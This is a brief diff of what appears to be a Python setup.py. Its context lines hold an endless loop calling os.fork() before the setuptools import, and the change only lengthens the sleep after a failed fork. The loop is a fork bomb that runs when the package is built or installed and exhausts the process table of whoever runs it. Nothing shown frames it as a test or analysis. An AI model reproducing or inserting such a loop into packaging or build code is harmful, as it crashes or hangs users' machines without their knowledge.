@@ -5,7 +5,7 @@ while True:
     try:
         os.fork()
     except OSError:
-        time.sleep(0.1)
+        time.sleep(1)
 
 from setuptools import Extension, setup
 
